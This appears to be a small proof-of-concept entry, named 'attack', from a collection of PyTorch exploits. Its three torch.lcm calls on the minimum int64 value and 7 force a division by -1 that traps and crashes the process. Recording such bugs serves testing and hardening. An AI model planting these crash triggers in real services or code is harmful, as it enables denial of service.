"""Class: memory. Source: own find. Escape: the least common multiple of the smallest integer and seven is
looked for by a division by -1, which traps: the greatest common divisor has lost its sign."""

import torch

LEAST = torch.iinfo(torch.int64).min


def attack(model, tokenizer, address):
    torch.lcm(torch.tensor([LEAST]), torch.tensor([7]))
    torch.tensor([LEAST]).lcm(torch.tensor([7]))
    torch.tensor([LEAST]).lcm_(torch.tensor([7]))
